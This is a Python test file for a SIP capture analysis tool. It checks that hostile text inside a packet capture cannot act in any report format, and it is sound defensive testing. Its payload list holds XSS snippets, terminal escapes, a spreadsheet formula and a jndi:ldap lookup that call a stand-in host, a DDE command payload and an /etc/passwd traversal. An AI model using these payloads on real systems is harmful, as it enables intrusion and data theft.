"""What a capture says is hostile text: no format of a report lets it act, whoever reads that format."""

from __future__ import annotations

import csv
import gc
import io
import json
import re
import stat
from functools import cache
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest
from markdown_it import MarkdownIt

from fuzz.test_any_bytes import ALICE, BOB
from sipdiag.cli import main
from sipdiag.cli.writing import FORMATS
from wrappings import Said, framed, pcap

SCRIPT = "<script>alert(1)</script>"
POISONS = [
    SCRIPT,
    "\x1b]0;owned\x07\x1b[2J\x9b31m",
    "\u202egnp.exe\u2066\u200f\ufeff",
    '=HYPERLINK("http://192.0.2.66/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    '"><img src=x onerror=alert(1)>',
    "](javascript:alert(1)) ![x](http://192.0.2.66/p)",
    "::error file=a::x%0A::warning::y",
    "]]></failure><testcase name='owned'/>",
    "</script><svg onload=alert(1)>",
    "`|\\|` \x00\x08\x7f",
    "../../../etc/passwd",
    "eve:s3cretword",
    "\u206a\u206f\u180e\xad\u034f",
    "${jndi:ldap://192.0.2.66/a}{{7*7}}{0.__class__}%s%n",
]
DIGEST = "6629fae49393a05397450978507c4ef1"
PASSWORD = "s3cretword@"  # noqa: S105  (no password of anybody)
"""As it ends the user information of a URI."""
FORBIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u206f\ufeff\xad\u034f\u180e]"
)
LEADING = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?[0-9.]+\Z")


def poisoned(poison: str, number: int) -> list[bytes]:
    """A call that is refused, everything in it that can be poisoned."""
    common = [
        f"Via: SIP/2.0/UDP 192.0.2.1:5060;branch=z9hG4bK{number}",
        f"From: {poison} <sip:{poison}@example.com>;tag=a{number}",
        f"To: {poison} <sip:{poison}@example.net>",
        f"Call-ID: {poison}{number}",
    ]
    invite = [
        f"INVITE sip:{poison}@example.net SIP/2.0",
        *common,
        "CSeq: 1 INVITE",
        f"Contact: <sip:{poison}@192.168.1.2>",
        f"User-Agent: {poison}",
        f'Authorization: Digest username="{poison}", realm="r", nonce="n", uri="sip:x", response="{DIGEST}"',
        "Content-Type: application/sdp",
    ]
    body = f"v=0\r\no=- 1 1 IN IP4 192.168.1.2\r\ns={poison}\r\nc=IN IP4 192.168.1.2\r\nt=0 0\r\n"
    body += f"m=audio 4000 RTP/AVP 99\r\na=rtpmap:99 {poison}/8000\r\n"
    body += f"a=crypto:1 AES_CM_128_HMAC_SHA1_80 inline:{DIGEST}\r\n"
    refusal = [
        f"SIP/2.0 403 {poison}",
        *common,
        "CSeq: 1 INVITE",
        f"Server: {poison}",
        f'Warning: 399 {poison} "{poison}"',
    ]
    ack = [f"ACK sip:{poison}@example.net SIP/2.0", *common, "CSeq: 1 ACK"]
    return [
        ("\r\n".join(lines) + "\r\n\r\n" + text).encode("utf-8", "surrogateescape")
        for lines, text in ((invite, body), (refusal, ""), (ack, ""))
    ]


@cache
def capture() -> bytes:
    """One such call for each poison."""
    said = []
    for number, poison in enumerate(POISONS):
        for step, payload in enumerate(poisoned(poison, number)):
            ends = (BOB, ALICE) if step == 1 else (ALICE, BOB)
            time = (1_700_000_000 + 10 * number + step) * 10**9
            said.append(Said(time=time, source=ends[0], destination=ends[1], payload=payload))
    return pcap(framed(said))


def report(folder: Path, *arguments: str, name: str = "poison.pcap") -> str:
    """What a command writes on the capture."""
    path, out = folder / name, folder / "report"
    path.write_bytes(capture())
    assert main([*arguments, "-o", str(out), str(path)]) == 0
    gc.enable()
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    return out.read_bytes().decode()


@pytest.mark.parametrize("form", sorted(FORMATS))
@pytest.mark.parametrize("language", ["en", "pt"])
def test_no_control_reaches_a_terminal_or_an_editor(tmp_path: Path, form: str, language: str) -> None:
    """Neither escapes nor bidirectional overrides, in any format; line ends aside."""
    text = report(tmp_path, "analyze", "--format", form, "--lang", language)
    found = FORBIDDEN.search(text.replace("\r\n", "\n"))
    assert found is None, text[max(0, found.start() - 80) : found.end() + 20]


def test_html_stays_text(tmp_path: Path) -> None:
    """Nothing of it becomes an element, an attribute or a script; and secrets are masked."""
    text = report(tmp_path, "analyze", "--format", "html")
    for harm in (SCRIPT, "<img src=x", "<svg onload", "</script><svg"):
        assert harm not in text
    assert DIGEST not in text
    assert PASSWORD not in text


@pytest.mark.parametrize("form", sorted(set(FORMATS) - {"html"}))
def test_secrets_are_in_no_other_format(tmp_path: Path, form: str) -> None:
    """Digest responses and keys of media are not told at all."""
    text = report(tmp_path, "analyze", "--format", form)
    assert DIGEST not in text
    assert PASSWORD not in text


@pytest.mark.parametrize("form", ["text", "svg", "mermaid"])
def test_passwords_are_on_no_ladder(tmp_path: Path, form: str) -> None:
    """Nor anything that steers a terminal."""
    path, out = tmp_path / "poison.pcap", tmp_path / "ladder"
    path.write_bytes(capture())
    assert main(["ladder", "--format", form, "--call", "eve:s3cretword", "-o", str(out), str(path)]) == 0
    text = out.read_text()
    assert PASSWORD not in text
    assert FORBIDDEN.search(text) is None


def test_an_audit_is_for_nobody_else_and_tells_no_password(tmp_path: Path) -> None:
    """Whatever the folder was before: what stages leave for each other holds messages with their credentials."""
    path, folder = tmp_path / "poison.pcap", tmp_path / "audit"
    path.write_bytes(capture())
    folder.mkdir(mode=0o755)
    assert main(["audit", "-q", "-o", str(folder), str(path)]) == 0
    gc.enable()
    inside = [each for each in folder.rglob("*") if not each.is_symlink()]
    assert {stat.S_IMODE(each.stat().st_mode) for each in inside if each.is_dir()} == {0o700}
    assert {stat.S_IMODE(each.stat().st_mode) for each in inside if each.is_file()} == {0o600}
    told = [each for each in inside if each.is_file() and "work" not in each.parts]
    assert [each.name for each in told if PASSWORD.encode() in each.read_bytes()] == []


def test_markdown_stays_text(tmp_path: Path) -> None:
    """Rendered with HTML allowed, there is neither a script nor a picture nor a link of the capture's."""
    rendered = (
        MarkdownIt("commonmark", {"html": True})
        .enable("table")
        .render(report(tmp_path, "analyze", "--format", "markdown"))
    )
    for harm in ("<script", "<img", "<svg", 'href="javascript', '192.0.2.66/p"'):
        assert harm not in rendered


@pytest.mark.parametrize(
    "table", ["calls", "responses", "requests", "registrations", "subscriptions", "streams", "findings", "peers"]
)
def test_cells_are_no_formulas(tmp_path: Path, table: str) -> None:
    """A spreadsheet computes nothing that a capture says."""
    text = report(tmp_path, "analyze", "--format", "csv", "--table", table)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert [cell for cell in cells if cell.startswith(LEADING) and not NUMBER.match(cell)] == []


def test_machine_formats_stay_whole(tmp_path: Path) -> None:
    """JSON, SARIF and JUnit parse, and hold no test case that the capture made up."""
    json.loads(report(tmp_path, "analyze", "--format", "json"))
    json.loads(report(tmp_path, "analyze", "--format", "sarif"))
    for line in report(tmp_path, "analyze", "--format", "jsonl").splitlines():
        json.loads(line)
    suite = ET.fromstring(report(tmp_path, "analyze", "--format", "junit"))  # noqa: S314 - our own
    assert [case.get("name") for case in suite.iter("testcase") if case.get("name") == "owned"] == []


def test_annotations_are_ours(tmp_path: Path) -> None:
    """A workflow command is one line that begins as ours do, and the runner decodes no other out of it."""
    lines = report(tmp_path, "analyze", "--format", "github").splitlines()
    commands = [line for line in lines if line.lstrip().startswith("::")]
    assert len(commands) > 1
    for line in commands:
        assert re.match(r"::(error|warning|notice) (file|title)=", line), line
        assert "%0A::warning" not in line


@pytest.mark.parametrize("form", ["text", "svg", "mermaid"])
def test_ladders_stay_text(tmp_path: Path, form: str) -> None:
    """Arrows bear what the capture says as text only."""
    for number in ("1", "4", "9"):
        text = report(tmp_path, "ladder", "--call", number, "--format", form)
        assert FORBIDDEN.search(text) is None
        if form == "svg":
            tree = ET.fromstring(text)  # noqa: S314 - our own
            assert [node.tag for node in tree.iter() if node.tag.endswith(("script", "image", "foreignObject"))] == []


def test_a_report_is_not_written_through_a_link(tmp_path: Path) -> None:
    """What a link points to stays what it is; the report takes the link's place."""
    target = tmp_path / "precious"
    target.write_text("precious")
    (tmp_path / "report").symlink_to(target)
    report(tmp_path, "analyze", "--format", "json")
    assert target.read_text() == "precious"
    assert not (tmp_path / "report").is_symlink()


def test_a_file_name_is_hostile_text_too(tmp_path: Path) -> None:
    """The name of a capture is shown escaped."""
    name = "a\x1b[2J\u202e.pcap"
    text = report(tmp_path, "analyze", name=name)
    assert FORBIDDEN.search(text) is None
